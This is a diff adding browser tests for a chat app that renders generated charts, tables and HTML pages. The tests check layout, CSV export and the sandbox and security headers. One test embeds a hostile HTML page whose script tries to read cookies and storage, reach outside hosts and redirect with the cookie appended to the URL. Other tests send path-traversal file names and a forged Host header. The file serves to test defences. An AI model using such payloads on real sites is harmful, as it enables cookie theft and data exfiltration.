@@ -1,0 +1,280 @@
+"""The page in a real browser: how it stands, what it loads, and what a hostile result can reach."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import httpx
+import pytest
+from playwright.sync_api import Page
+
+from tests.browser.conftest import IDLE, Served, shoot
+from tests.pages.seeds import TABLE, Made, png, table
+
+pytestmark = pytest.mark.browser
+
+Open = Callable[..., Page]
+FITS = "() => document.documentElement.scrollWidth <= window.innerWidth"
+VEGA = {
+    "data": {"values": [{"a": "x", "b": 1}, {"a": "y", "b": 2}]},
+    "mark": "bar",
+    "encoding": {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}},
+}
+PLOTLY = {"data": [{"type": "scatter", "x": [1, 2], "y": [3, 1]}], "layout": {}}
+
+
+@pytest.mark.parametrize("width", [1280, 390])
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_empty_page_stands(open_page: Open, scheme: str, width: int) -> None:
+    page = open_page("/", scheme, width)
+    page.get_by_role("heading", name="What do you need?").wait_for()
+    page.get_by_role("button", name="QR code").wait_for()
+    page.get_by_test_id("stChatInputTextArea").wait_for()
+    assert page.evaluate(FITS)
+    assert page.evaluate(
+        "() => document.fonts.ready.then(() => document.fonts.check('16px \"IBM Plex Sans\"'))"
+    )
+    shoot(page, f"empty-{scheme}-{width}")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_settings_page_stands(open_page: Open, scheme: str) -> None:
+    page = open_page("/settings", scheme)
+    page.get_by_role("heading", name="What works here").wait_for()
+    assert page.get_by_label("Key").get_attribute("type") == "password"
+    assert page.evaluate(FITS)
+    shoot(page, f"settings-{scheme}")
+
+
+def test_nothing_is_loaded_from_elsewhere_and_nothing_of_ours_is_refused(
+    open_page: Open, served: Served
+) -> None:
+    outputs = (
+        Made("v", "application/vnd.vegalite.v5+json", json.dumps(VEGA).encode()),
+        Made("p", "application/vnd.plotly.v1+json", json.dumps(PLOTLY).encode()),
+        Made("i", "image/png", png()),
+        Made("t", TABLE, table([("Month", "string"), ("Amount", "number")], [["May", 3.5]])),
+    )
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        seeds.result(conversation, "all", outputs, title="All of it")
+    page = open_page("/")
+    asked: list[str] = []
+    refused: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("console", lambda line: refused.append(line.text) if "Content Security" in line.text else None)
+    page.goto(f"{served.address}/?c={conversation}")
+    page.locator("[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg").first.wait_for()
+    page.locator(".js-plotly-plot .scatterlayer .points path").first.wait_for()
+    page.locator("[data-testid=stDataFrame] canvas").first.wait_for()
+    loaded = (
+        "() => [...document.querySelectorAll('[data-testid=stImage] img')].every(i => i.naturalWidth > 0)"
+    )
+    page.wait_for_function(loaded)
+    shoot(page, "media")
+    assert refused == []
+    assert [url for url in asked if not url.startswith((served.address, "data:", "blob:"))] == []
+
+
+def test_a_table_downloads_as_csv(open_page: Open, served: Served) -> None:
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        cells = table([("Month", "string"), ("Note", "string")], [["May", "=1+1"]])
+        seeds.result(conversation, "sum", (Made("t", TABLE, cells),), title="Amounts")
+    page = open_page(f"/?c={conversation}")
+    with page.expect_download() as coming:
+        page.get_by_role("button", name="Table as CSV").click()
+    assert coming.value.suggested_filename == "Amounts.csv"
+    assert coming.value.path().read_bytes().decode("utf-8-sig").split() == ["Month,Note", "May,'=1+1"]
+
+
+def test_the_side_leads_to_earlier_conversations_and_back_to_a_new_page(
+    open_page: Open, served: Served
+) -> None:
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        seeds.result(conversation, "the days until spring", printed="118 days")
+    page = open_page("/settings")
+    page.get_by_role("link", name="the days until spring").click()
+    page.get_by_text("118 days").wait_for()
+    assert f"c={conversation}" in page.url
+    page.get_by_role("link", name="New").click()
+    page.get_by_role("heading", name="What do you need?").wait_for()
+    assert conversation not in page.url
+
+
+def test_the_keyboard_reaches_the_box_and_shows_where_it_is(open_page: Open) -> None:
+    page = open_page("/")
+    page.get_by_role("button", name="QR code").focus()
+    page.keyboard.press("Tab")
+    assert page.evaluate("() => document.activeElement.innerText").strip().endswith("Password")
+    page.wait_for_function("() => getComputedStyle(document.activeElement).outlineStyle === 'solid'")
+
+
+# What a program or a model made
+
+
+class _Listener(BaseHTTPRequestHandler):
+    heard: list[str]
+
+    def do_GET(self) -> None:
+        self.heard.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, *_args: object) -> None:
+        """Nothing into the test's output."""
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """A server elsewhere on this machine, and what reached it."""
+    heard: list[str] = []
+    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Listener", (_Listener,), {"heard": heard}))
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", heard
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+HOSTILE = """<!doctype html><html><head>
+<link rel="stylesheet" href="ELSEWHERE/style"><link rel="prefetch" href="ELSEWHERE/prefetch">
+<link rel="preconnect" href="ELSEWHERE"></head><body><pre id="said"></pre>
+<img src="ELSEWHERE/img"><iframe src="ELSEWHERE/frame"></iframe><video src="ELSEWHERE/video"></video>
+<form id="f" action="ELSEWHERE/form" method="post"><input name="a" value="b"></form>
+<script>
+const said = {};
+const tried = async (name, act) => {
+  try { const got = await act(); said[name] = "reached: " + String(got).slice(0, 60); }
+  catch (refusal) { said[name] = "refused"; }
+};
+const quietly = (act) => { try { act(); } catch (refusal) { return; } };  // the listener tells what came of it
+const never = (start) => new Promise((yes, no) => { start(yes, no); setTimeout(() => no("silence"), 1500); });
+(async () => {
+  await tried("parent", () => parent.document.title);
+  quietly(() => { top.location.href = "ELSEWHERE/top"; });
+  await tried("cookie", () => document.cookie);
+  await tried("storage", () => localStorage.length);
+  await tried("fetch", () => fetch("ELSEWHERE/fetch", {mode: "no-cors"}));
+  await tried("own", () => fetch("/_stcore/health"));
+  quietly(() => navigator.sendBeacon("ELSEWHERE/beacon", document.title));
+  await tried("socket", () => never((yes, no) => {
+    const s = new WebSocket("SOCKET/socket"); s.onopen = yes; s.onerror = no; }));
+  await tried("page socket", () => never((yes, no) => {
+    const s = new WebSocket("PAGE/_stcore/stream"); s.onopen = yes; s.onerror = no; }));
+  await tried("worker", () => never((yes, no) => {
+    const w = new Worker(URL.createObjectURL(new Blob(["fetch('ELSEWHERE/worker')"]))); w.onerror = no; }));
+  await tried("window", () => { if (!window.open("ELSEWHERE/window")) throw "refused"; return "opened"; });
+  quietly(() => document.getElementById("f").submit());
+  document.getElementById("said").textContent = JSON.stringify(said);
+  setTimeout(() => { location.href = "ELSEWHERE/self?" + document.cookie; }, 1500);
+})();
+</script></body></html>"""
+
+
+def test_a_hostile_page_reaches_nothing(
+    open_page: Open, served: Served, listener: tuple[str, list[str]]
+) -> None:
+    elsewhere, heard = listener
+    page_socket = served.address.replace("http", "ws")
+    html = HOSTILE.replace("ELSEWHERE", elsewhere).replace("SOCKET", elsewhere.replace("http", "ws"))
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        made = Made("page.html", "text/html", html.replace("PAGE", page_socket).encode())
+        seeds.result(conversation, "a page", (made,), title="A page", kind="html")
+    page = open_page(f"/?c={conversation}")
+    frame = page.frame_locator("iframe[title='A page']")
+    frame.locator("#said", has_text="window").wait_for()
+    said = json.loads(frame.locator("#said").inner_text())
+    assert set(said) == {
+        *("parent", "cookie", "storage", "fetch", "own"),
+        *("socket", "page socket", "worker", "window"),
+    }
+    assert {name: what for name, what in said.items() if what != "refused"} == {}
+    page.wait_for_timeout(3000)
+    assert heard == []
+    assert page.url.startswith(served.address)
+    assert page.title() == "Oneoff"
+
+
+def test_a_made_page_opens_inside_ours_only(chromium_page: Page, served: Served) -> None:
+    with served.seeds() as seeds:
+        blob = seeds.blobs.put(b"<script>document.title = 'ran'</script>")
+    answer = chromium_page.goto(f"{served.address}/app/static/shown/{blob}.html")
+    assert answer is not None
+    assert answer.status == 403
+    assert chromium_page.title() != "ran"
+
+
+@pytest.fixture
+def chromium_page(open_page: Open) -> Page:
+    return open_page("/")
+
+
+def test_headers_of_the_page_and_of_what_was_made(served: Served) -> None:
+    with served.seeds() as seeds:
+        blob = seeds.blobs.put(b"<p>made</p>")
+    with httpx.Client(base_url=served.address, trust_env=False) as client:
+        page = client.get("/")
+        made = client.get(f"/app/static/shown/{blob}.html", headers={"Sec-Fetch-Dest": "iframe"})
+        gone = [
+            client.get(f"/app/static/shown/{name}").status_code
+            for name in (f"{'0' * 64}.html", f"{blob}.exe", f"../{blob}.html", "x.html", "%2e%2e%2fapp.py")
+        ]
+        foreign = client.get("/", headers={"Host": "evil.example"})
+    assert "frame-src 'self'" in page.headers["content-security-policy"]
+    assert "http:" not in page.headers["content-security-policy"]
+    assert made.text == "<p>made</p>"
+    assert made.headers["content-security-policy"] == (
+        "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; "
+        "img-src data: blob:; form-action 'none'; frame-ancestors 'self'"
+    )
+    for answer in (page, made):
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert answer.headers["referrer-policy"] == "no-referrer"
+    assert set(gone) <= {400, 404}
+    assert foreign.status_code == 421
+
+
+def test_a_page_that_cant_be_drawn_is_a_sentence(open_page: Open, served: Served) -> None:
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        seeds.turn(conversation, "what was stored is damaged", plan={"steps": 5})
+    page = open_page(f"/?c={conversation}")
+    page.get_by_text("This page couldn't be drawn.").wait_for()
+    assert "Traceback" not in page.content()
+    assert "ValidationError" not in page.content()
+    assert "ValidationError" in (served.home / "logs" / "oneoff.log").read_text(encoding="utf-8")
+
+
+def test_a_new_result_is_shown_from_its_beginning(open_page: Open, served: Served) -> None:
+    rows = [[f"2025-{number:02d}", number] for number in range(15)]
+    made = Made("t", TABLE, table([("Month", "string"), ("Amount", "integer")], rows))
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        for number in range(3):
+            seeds.result(conversation, f"request {number}", (made,), title=f"Result {number}")
+    page = open_page(f"/?c={conversation}")
+    asked = page.get_by_text("request 2", exact=True)
+    top = "element => { const at = element.getBoundingClientRect().top; return at > 0 && at < 200; }"
+    page.wait_for_function(f"element => ({top})(element)", arg=asked.element_handle())
+
+
+def test_a_reload_shows_the_same_conversation(open_page: Open, served: Served) -> None:
+    with served.seeds() as seeds:
+        conversation = seeds.conversation()
+        seeds.working(conversation, "sum it", line="Reading sales.csv")
+    page = open_page(f"/?c={conversation}")
+    page.get_by_text("Reading sales.csv").wait_for()
+    page.reload()
+    page.wait_for_selector(IDLE)
+    page.get_by_text("Reading sales.csv").wait_for()
+    page.get_by_role("button", name="Stop").wait_for()
